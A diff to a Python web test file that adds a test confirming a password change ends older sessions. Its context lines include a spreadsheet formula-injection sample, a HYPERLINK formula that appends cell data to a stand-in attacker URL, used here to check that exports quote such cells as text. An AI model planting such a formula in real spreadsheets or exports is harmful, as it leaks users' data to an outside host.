@@ -9,9 +9,10 @@ import io
 from typing import Any
 
 from hagukumi.resources import make_redis
-from registry.users import MAX_FAILURES, SignIn, authenticate
+from registry.db import transaction
+from registry.users import MAX_FAILURES, SignIn, authenticate, find_user, set_password
 from tests.integrations.daycare.daycare_factories import facility, insert
-from tests.web.conftest import PASSWORD, csrf_of
+from tests.web.conftest import PASSWORD, csrf_of, sign_in
 
 HUGE = "9" * 30
 
@@ -106,3 +107,21 @@ async def test_exported_cells_that_look_like_formulas_are_quoted_as_text(
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"開く")' in cells
     assert "'+81 東京都" in cells and "'@SUM(1+1)" in cells
     assert not any(cell[:1] in {"=", "+", "@"} for cell in cells)
+
+
+async def test_a_new_password_ends_the_sessions_opened_with_the_old_one(
+    client: Any, make_user: Any, sessions: Any
+) -> None:
+    email = await make_user("132012")
+    assert (await sign_in(client, email)).status == 303
+    assert (await client.get("/console/", allow_redirects=False)).status == 200
+    async with transaction(sessions) as session:
+        user = await find_user(session, email)
+        assert user is not None
+        await set_password(session, user, "a brand new long password")
+    answer = await client.get("/console/", allow_redirects=False)
+    assert answer.status == 303
+    assert answer.headers["Location"].startswith("/console/signin")
+    assert (await sign_in(client, email, "a brand new long password")).status == 303
+    home = await client.get("/console/", allow_redirects=False)
+    assert home.status == 200
